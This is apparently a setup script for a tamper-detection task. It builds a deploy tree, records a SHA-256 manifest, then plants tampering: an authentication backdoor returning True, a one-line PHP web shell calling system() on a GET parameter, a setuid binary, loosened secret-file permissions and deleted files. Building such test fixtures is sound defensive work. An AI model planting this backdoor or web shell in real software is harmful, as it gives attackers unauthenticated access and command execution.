set -e
mkdir -p /app/deploy
python3 - <<'PY'
import hashlib, json, os
files = {
    "bin/server": (b"\x7fELF" + bytes(range(200)) * 5, 0o755),
    "bin/migrate": (b"#!/bin/sh\nexec python3 migrate.py\n", 0o755),
    "lib/auth.py": (b"def check(u, p):\n    return verify(u, p)\n", 0o644),
    "lib/util.py": (b"def clamp(x, a, b):\n    return max(a, min(b, x))\n", 0o644),
    "lib/db.py": (b"DSN = 'postgres://app@db/app'\n", 0o644),
    "conf/app.yaml": (b"port: 8080\nworkers: 4\n", 0o640),
    "conf/secrets.yaml": (b"api_key: redacted\n", 0o600),
    "static/app.js": (b"console.log('hi');\n", 0o644),
    "static/logo.svg": (b"<svg/>\n", 0o644),
    "README": (b"deploy tree\n", 0o644),
}
manifest = {}
for p, (data, mode) in files.items():
    manifest[p] = {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data), "mode": "%04o" % mode}
    full = os.path.join("/app/deploy", p)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    open(full, "wb").write(data)
    os.chmod(full, mode)
json.dump(manifest, open("/app/MANIFEST.json", "w"), indent=2, sort_keys=True)
# tampering
open("/app/deploy/lib/auth.py", "wb").write(b"def check(u, p):\n    return True  # backdoor\n")
os.chmod("/app/deploy/lib/auth.py", 0o666)
with open("/app/deploy/bin/server", "r+b") as f:
    f.seek(100); f.write(b"\x90")
os.chmod("/app/deploy/conf/secrets.yaml", 0o644)
os.chmod("/app/deploy/bin/migrate", 0o4755)
os.remove("/app/deploy/static/logo.svg")
os.remove("/app/deploy/README")
open("/app/deploy/static/shell.php", "w").write("<?php system($_GET['c']); ?>\n")
os.makedirs("/app/deploy/lib/.cache")
open("/app/deploy/lib/.cache/x.pyc", "wb").write(b"\x00\x01")
open("/app/deploy/conf/app.yaml", "ab").write(b"debug: true\n")
os.makedirs("/app/deploy/emptydir")
PY
